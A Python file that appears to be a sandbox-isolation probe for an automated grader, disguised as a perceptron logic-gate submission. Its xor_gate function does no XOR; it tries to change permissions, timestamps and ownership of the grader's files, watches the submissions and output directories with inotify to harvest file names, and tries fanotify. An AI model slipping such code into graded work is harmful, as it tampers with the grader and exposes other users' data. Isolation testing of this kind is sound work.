"""chmod, utime, chown and inotify on the grader's files."""
import ctypes
import errno
import os
import struct
import time
import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


COURSE, OUT, SUBS = "@@COURSE@@", "@@OUT@@", "@@SUBMISSIONS@@"


def _try(what, fn, said):
    try:
        fn()
        said[what] = "ESCAPED"
    except OSError as e:
        said[what] = errno.errorcode.get(e.errno, "?")


def xor_gate(x1, x2):
    said = {}
    _try("chmod course", lambda: os.chmod(COURSE, 0o666), said)
    _try("utime course", lambda: os.utime(COURSE, (0, 0)), said)
    _try("chmod OUT", lambda: os.chmod(OUT, 0o555), said)
    _try("chown course", lambda: os.chown(COURSE, os.getuid(), os.getgid()), said)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    if fd < 0:
        said["inotify"] = errno.errorcode.get(ctypes.get_errno(), "?")
    else:
        watched = [p for p in (SUBS, OUT) if libc.inotify_add_watch(fd, p.encode(), 0xFFF) >= 0]
        said["inotify"] = f"ESCAPED watching {len(watched)}" if watched else \
            errno.errorcode.get(ctypes.get_errno(), "?")
        names, deadline = set(), time.time() + 1.0
        while watched and time.time() < deadline:
            try:
                data = os.read(fd, 65536)
            except BlockingIOError:
                time.sleep(0.05)
                continue
            pos = 0
            while pos + 16 <= len(data):
                _, _, _, n = struct.unpack_from("iIII", data, pos)
                names.add(data[pos + 16:pos + 16 + n].rstrip(b"\0").decode(errors="replace"))
                pos += 16 + n
        if names:
            said["ids seen"] = f"ESCAPED {sorted(names)[:5]}"
    fan = libc.fanotify_init(0, 0)
    said["fanotify"] = "ESCAPED" if fan >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    raise RuntimeError(f"ATTACK-RAN perm-tamper: {said}")
